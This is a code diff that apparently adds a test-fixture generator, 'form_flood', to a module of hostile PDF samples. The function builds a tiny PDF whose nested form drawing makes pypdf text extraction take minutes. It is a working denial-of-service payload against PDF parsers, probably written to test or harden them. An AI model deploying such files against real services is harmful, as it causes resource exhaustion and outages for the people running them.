@@ -71,3 +71,25 @@ def metadata_bomb(megabytes: int = 256) -> bytes:
         + b"\nendstream",
     }
     return _assemble(objects, 1, {})
+
+
+def form_flood(calls: int = 10_000, operators: int = 1000) -> bytes:
+    """One page that draws a form `calls` times, the form showing one letter `operators`
+    times, in 1 KB: text extraction walks calls x operators (pypdf 7: 100 s for the defaults,
+    its own limit of 5000 form invocations notwithstanding)."""
+    page = zlib.compress(b"/X Do " * calls, 9)
+    form = zlib.compress(b"BT /F1 1 Tf " + b"1 0 Td (a) Tj " * operators + b"ET", 9)
+    font = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
+        b" /Resources << /XObject << /X 5 0 R >> >> >>",
+        4: b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(page) + page + b"\nendstream",
+        5: b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources "
+        + font
+        + b" /Filter /FlateDecode /Length %d >>\nstream\n" % len(form)
+        + form
+        + b"\nendstream",
+    }
+    return _assemble(objects, 1, {})
